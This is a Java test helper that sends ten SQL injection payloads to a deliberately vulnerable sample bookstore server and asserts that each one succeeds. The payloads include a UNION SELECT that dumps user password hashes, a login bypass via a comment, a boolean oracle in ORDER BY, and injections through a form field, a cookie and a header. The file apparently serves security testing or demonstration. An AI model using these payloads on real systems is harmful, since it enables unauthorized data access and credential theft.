package io.palisade.sample.bookstore;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.BiConsumer;

/**
 * One real injection per vulnerable endpoint of the sample, each with the effect it has when it
 * works, and the same request made harmless for comparison.
 */
final class Attacks {

    static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    /** A request against the server at {@code base}. */
    interface Call {
        HttpResponse<String> send(URI base) throws IOException, InterruptedException;
    }

    record Attack(String name, Call call, BiConsumer<BookstoreServer, HttpResponse<String>> worked) {
        @Override
        public String toString() {
            return name;
        }
    }

    private Attacks() {
    }

    static String q(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static HttpResponse<String> get(URI base, String pathAndQuery, String... headers) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(base.resolve(pathAndQuery)).GET();
        for (int i = 0; i < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    static HttpResponse<String> post(URI base, String path, String contentType, String body) throws IOException, InterruptedException {
        return HTTP.send(HttpRequest.newBuilder(base.resolve(path)).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
    }

    static int count(BookstoreServer server, String table) {
        try {
            return server.container().select(Books.class).get().count(table);
        } catch (java.sql.SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    static List<Attack> all() {
        return List.of(
                new Attack("LIKE string in query", base -> get(base, "api/books/search?q=" + q("x' OR 1=1 OR 'a'='")),
                        (server, r) -> assertThat(r.body()).contains("Moby-Dick", "The Hobbit")),
                new Attack("UNION in query string", base -> get(base, "api/books/by-author?author="
                        + q("x' UNION SELECT id, username, password_hash, 0 FROM users --")),
                        (server, r) -> assertThat(r.body()).contains("alice", "sha256:")),
                new Attack("numeric path segment", base -> get(base, "api/books/" + q("1 OR 1=1")),
                        (server, r) -> assertThat(r.body()).contains("Dracula", "Ulysses")),
                new Attack("ORDER BY boolean oracle", base -> get(base, "api/books?sort="
                        + q("(CASE WHEN (SELECT COUNT(*) FROM users WHERE username = 'alice') = 1 THEN title ELSE author END)")),
                        (server, r) -> assertThat(r.body()).startsWith("[{\"id\":5,")),
                new Attack("IN list", base -> get(base, "api/books/batch?ids=" + q("0) OR (1=1")),
                        (server, r) -> assertThat(r.body()).contains("Emma", "Middlemarch")),
                new Attack("column name", base -> get(base, "api/books/columns?name="
                        + q("(SELECT password_hash FROM users WHERE id = 1)")),
                        (server, r) -> assertThat(r.body()).contains("sha256:2bd806c9")),
                new Attack("JSON login bypass", base -> post(base, "api/login", "application/json",
                        "{\"username\":\"alice' --\",\"password\":\"wrong\"}"),
                        (server, r) -> assertThat(r.body()).isEqualTo("{\"user_id\":1}")),
                new Attack("INSERT through a form field", base -> post(base, "api/books/2/reviews",
                        "application/x-www-form-urlencoded", "author=eve&text=" + q("x'), (3, 'eve', 'spam")),
                        (server, r) -> assertThat(count(server, "reviews")).isEqualTo(3)),
                new Attack("session cookie", base -> get(base, "api/me", "Cookie", "session=" + "x' OR '1'='1"),
                        (server, r) -> assertThat(r.body()).contains("username")),
                new Attack("header", base -> get(base, "api/books/by-publisher", "X-Publisher", "x' OR 1=1 --"),
                        (server, r) -> assertThat(r.body()).contains("Dracula")));
    }
}
